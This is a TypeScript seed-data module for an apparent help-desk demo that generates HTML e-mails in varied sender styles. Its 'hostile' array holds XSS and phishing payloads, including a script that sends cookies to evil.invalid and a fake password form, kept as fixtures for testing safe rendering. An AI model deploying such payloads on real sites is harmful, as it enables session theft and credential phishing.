import type { Head } from "#main/demo/seed/plan.ts";
import { mix } from "#main/demo/seed/rng.ts";
import { products, writtenPrice } from "#main/demo/seed/catalog.ts";
import type { Attachment } from "#main/demo/store/model.ts";

const entities: Readonly<Record<string, string>> = {
  "&": "&amp;",
  "<": "&lt;",
  ">": "&gt;",
  '"': "&quot;",
};
/** Escapes text for HTML. */
export const escapeHtml = (text: string): string =>
  /[&<>"]/.test(text) ? text.replace(/[&<>"]/g, (c) => entities[c] as string) : text;

/** Plain text as the remote shows it: one paragraph per blank line, in a `zd-comment` box. */
export function paragraphs(text: string): string {
  const parts = escapeHtml(text).split("\n\n");
  let out = '<div class="zd-comment" dir="auto">';
  for (const part of parts)
    out += `<p dir="auto">${part.includes("\n") ? part.replaceAll("\n", "<br>") : part}</p>`;
  return `${out}</div>`;
}

/** Things that mail from strangers has been seen to hold. A client must show the text and run none of it. */
const hostile = [
  `<script>document.title="owned";fetch("http://evil.invalid/"+document.cookie)</script>`,
  `<img src="x" onerror="alert(1)"><svg onload="alert(2)"><circle r="1"/></svg>`,
  `<a href="javascript:alert(3)">Track your parcel</a> <a href="data:text/html,<script>alert(4)</script>">invoice</a>`,
  `<style>body{display:none!important}.reply{position:fixed;inset:0;z-index:99999;background:#fff}</style><div class="reply">Your session has expired</div>`,
  `<form action="http://evil.invalid/login"><input name="password" type="password" autofocus><button>Sign in again</button></form>`,
  `<iframe src="http://evil.invalid/"></iframe><object data="http://evil.invalid/x.swf"></object><meta http-equiv="refresh" content="0;url=http://evil.invalid/">`,
];

/**
 * HTML of an e-mail as its sender made it; null when it was plain text.
 * `{{base}}` in the result stands for the server's own address.
 */
export function htmlMail(
  head: Head,
  h: number,
  body: string,
  subject: string,
  attachments: readonly Attachment[],
): string | null {
  const images = attachments.filter((a) => a.inline);
  const style = h % 10;
  if (style > 4 && images.length === 0) return null;
  const rtl = head.language === "ar" || head.language === "he";
  let out = `<div class="zd-comment zd-comment-pre-styled" dir="${rtl ? "rtl" : "auto"}"><div style="font-family:Calibri,Arial,sans-serif;font-size:11pt">`;
  out += paragraphs(body);
  for (const image of images)
    out += `<p><img src="{{base}}/attachments/token/${attachmentToken(image.id)}/?name=${encodeURIComponent(image.fileName)}" alt="${escapeHtml(image.fileName)}" style="max-width:100%" width="${image.width ?? 0}" height="${image.height ?? 0}"></p>`;
  const [product] = products[head.order.product] as (typeof products)[number];
  if (style === 0)
    out += `<table border="1" cellpadding="4"><tr><th>Order</th><th>Item</th><th align="right">Total</th></tr><tr><td>${head.order.number}</td><td>${product}</td><td align="right">${writtenPrice(head.language, head.order.cents)}</td></tr></table>`;
  if (style === 1)
    out += `<blockquote style="border-left:2px solid #999;padding-left:8px;color:#555"><p>-----Original Message-----<br>From: Nordlicht &lt;shop@nordlicht.example&gt;<br>Subject: ${escapeHtml(subject)}</p><p>Thank you for your order ${head.order.number}!</p><img src="http://tracker.invalid/open.gif?id=${h}" width="1" height="1"></blockquote>`;
  if (style === 2)
    out += `<p style="color:#888;font-size:9pt">—<br><b>CONFIDENTIAL</b>: This message is intended for the addressee only.<br><a href="https://www.example.com/about">www.example.com</a></p>`;
  if (h % 97 === 5) out += hostile[mix(h, 2) % hostile.length] as string;
  return `${out}</div></div>`;
}

/** The unguessable-looking part of an attachment's address; carries the id. */
export const attachmentToken = (id: number): string =>
  `${id.toString(36)}-${mix(id % 4_294_967_296, 77).toString(36)}`;
/** Id in an attachment address; null when the token was made up. */
export function attachmentIdOf(token: string): number | null {
  const id = Number.parseInt(token.split("-")[0] ?? "", 36);
  return Number.isSafeInteger(id) && attachmentToken(id) === token ? id : null;
}
